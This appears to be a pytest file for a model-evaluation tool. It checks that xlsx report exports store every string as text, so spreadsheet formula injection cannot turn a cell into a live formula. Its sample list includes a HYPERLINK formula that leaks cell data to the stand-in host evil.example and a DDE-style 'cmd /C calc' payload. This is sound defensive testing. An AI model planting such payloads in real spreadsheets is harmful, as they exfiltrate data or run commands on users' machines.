"""Spreadsheet (formula) injection: every string the gate writes to a workbook is text, never a formula.

openpyxl stores a string that starts with `=` as a live formula, so a model named
`=HYPERLINK("http://…"&A1,"click")` became a clickable link (or a `=WEBSERVICE(…)` request) in the
heuristic suite's records.xlsx when a maintainer opened it. Checked twice: through openpyxl (type `s`,
value unchanged) and in the raw sheet XML (no `<f>` element at all), on every sheet and every string column.
"""

from __future__ import annotations

import json
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest

from gate import io

openpyxl = pytest.importorskip("openpyxl")

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "=1+1",
]
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def formulas(path: Path) -> list[str]:
    """Every `<f>` element of every worksheet in the workbook's zip, as `sheet: formula`."""
    found = []
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        assert sheets
        for name in sheets:
            root = ElementTree.fromstring(archive.read(name))
            found += [f"{name}: {f.text}" for f in root.iter(f"{MAIN}f")]
    return found


def cells(path: Path) -> dict[str, list]:
    book = openpyxl.load_workbook(path)
    return {sheet.title: [cell for row in sheet.iter_rows() for cell in row] for sheet in book.worksheets}


def test_hostile_strings_in_every_column_and_header_are_text(tmp_path):
    path = tmp_path / "book.xlsx"
    rows = [[text, -0.5, 3, text[::-1]] for text in HOSTILE]
    io.write_xlsx_atomic(path, {"one": (HOSTILE[:2] + ["n", "x"], rows),
                                "two": (["a", HOSTILE[2]], [[HOSTILE[4], 2.5]])})
    assert formulas(path) == []
    book = openpyxl.load_workbook(path)
    one = [[(c.value, c.data_type) for c in row] for row in book["one"].iter_rows()]
    assert one[0] == [(HOSTILE[0], "s"), (HOSTILE[1], "s"), ("n", "s"), ("x", "s")]
    for text, row in zip(HOSTILE, one[1:], strict=True):
        assert row == [(text, "s"), (-0.5, "n"), (3, "n"), (text[::-1], "s")]  # numbers stay numbers
    assert [[(c.value, c.data_type) for c in row] for row in book["two"].iter_rows()] == [
        [("a", "s"), (HOSTILE[2], "s")], [(HOSTILE[4], "s"), (2.5, "n")]]


def test_control_characters_do_not_crash_the_export(tmp_path):
    path = tmp_path / "book.xlsx"
    io.write_xlsx_atomic(path, {"s": (["text"], [["bell\x07 and nul\x00 end"], ["tab\tnewline\nkept"]])})
    values = [c.value for c in cells(path)["s"]]
    assert values == ["text", "bell\ufffd and nul\ufffd end", "tab\tnewline\nkept"]


def test_records_xlsx_of_a_heuristic_suite_has_no_formula(tmp_path):
    """Hostile model names, prompt ids, prompts and responses, on all four sheets of records.xlsx."""
    from gate.config import GateConfig, ReportConfig, UnmeasuredPolicy
    from gate.judge import judge_gate, judge_suite
    from gate.kinds.base import ScoringContext
    from gate.kinds.heuristic import DEFAULT_CHECKS, score_heuristic
    from gate.kinds.heuristic.config import HeuristicSuiteConfig
    from gate.kinds.heuristic.records import load_heuristic
    from gate.report import context, write
    from tests.support.fake_runtime import FakeRuntime

    rows = [{"model": model, "category": "coding", "prompt_id": "C01", "prompt": HOSTILE[3], "response": model}
            for model in HOSTILE]
    rows += [{"model": HOSTILE[0], "category": "coding", "prompt_id": HOSTILE[1], "prompt": "p", "response": "x"},
             {"model": HOSTILE[1], "category": "paraphrasing", "prompt_id": "P01", "prompt": "p", "response": ""}]
    for number, row in enumerate(rows):
        row["id"] = HOSTILE[3] if number == 0 else f"r{number}"
    (tmp_path / "r.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    suite = HeuristicSuiteConfig(kind="heuristic", records=["r.jsonl"])
    data = load_heuristic("h", suite, tmp_path)
    result = score_heuristic("h", suite, data, ScoringContext(GateConfig(version=1, suites={"h": suite}),
                                                              FakeRuntime(), tmp_path))
    verdict = judge_gate("g", [judge_suite(result, DEFAULT_CHECKS, UnmeasuredPolicy.WARN)])
    write(verdict, context.RunInfo(generated_at="2026-11-22T00:00:00+00:00", output_dir="out"), ReportConfig(),
          tmp_path / "out")
    path = tmp_path / "out" / "h" / "records.xlsx"
    assert formulas(path) == []
    sheets = cells(path)
    assert list(sheets) == ["records", "summary", "ranking", "missing"]
    for name, found in sheets.items():
        strings = [c for c in found if isinstance(c.value, str)]
        assert all(c.data_type == "s" for c in strings), name
        assert {c.value for c in strings} & set(HOSTILE), f"{name}: no hostile text reached this sheet"
        assert not [c.coordinate for c in found if c.data_type == "f"], name
    for row in list(openpyxl.load_workbook(path)["ranking"].iter_rows(min_row=2, values_only=True)):
        assert isinstance(row[1], int) and isinstance(row[3], (int, float))  # rank and score stay numbers
    records = openpyxl.load_workbook(path)["records"]
    header = [c.value for c in records[1]]
    columns = [[r[header.index(c)] for r in records.iter_rows(min_row=2, values_only=True)]
               for c in ("id", "model", "prompt_id", "final_score")]
    assert HOSTILE[3] in columns[0]  # "-2+3" is kept as the text it was, not evaluated to 1
    assert set(columns[1]) == set(HOSTILE) and HOSTILE[1] in columns[2]
    assert all(isinstance(v, (int, float)) for v in columns[3])
